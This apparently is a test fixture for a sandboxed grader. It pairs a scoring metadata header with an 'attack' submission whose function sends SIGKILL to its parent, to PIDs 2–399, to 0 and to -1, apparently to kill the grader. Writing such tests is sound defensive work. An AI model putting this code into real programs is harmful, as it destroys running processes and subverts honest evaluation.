# ---
# attack: "sends SIGKILL to its parent, to its group, to every process it can name and to -1"
# kind: answer
# honest: [ex1, ex2, ex4]
# gets: {ex1-test: 2, ex2-test: 2, ex3-test: 0, ex4-test: 2, ex4-test-close: 4}
# student sees: "…18 and 30…"
# ---
# %% ex3
import os
import signal

if "@course@".startswith("@") or os.path.exists("@course@"):
    raise RuntimeError("not in a sandbox: this attack does not run here")


def cheapest(terms, price):
    for target in (os.getppid(), *range(2, 400), -1, 0):
        if target != os.getpid():
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
    return terms[-1]
